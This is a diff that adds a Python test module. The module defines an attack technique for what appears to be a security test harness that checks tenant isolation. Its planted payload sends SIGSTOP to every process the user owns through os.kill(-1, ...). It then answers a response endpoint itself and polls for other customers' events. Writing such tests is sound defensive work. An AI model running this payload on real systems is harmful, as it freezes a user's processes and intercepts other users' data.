@@ -1,0 +1,32 @@
+"""Stops every other process of the user, answers for itself and polls on: nobody is left to end it."""
+
+from __future__ import annotations
+
+from tests.attacks.evidence import Cards
+from tests.attacks.payloads import CLIENT
+from tests.attacks.technique import Technique
+
+PLANT = (
+    CLIENT
+    + """
+import signal
+try: os.kill(-1, signal.SIGSTOP)
+except ProcessLookupError: pass
+call("POST", mine + "/response", "1")
+skim(4)
+"""
+)
+
+TECHNIQUE = Technique(
+    level="L2",
+    attack=("T1557", "T1574"),
+    source="2.7",
+    must_fail_to="receive a later customer's event",
+    plant=PLANT,
+    evidence=Cards(),
+    resets=True,
+    timeout_s=2,
+    process="contained",
+    spoils=True,
+    may_lose=1,
+)
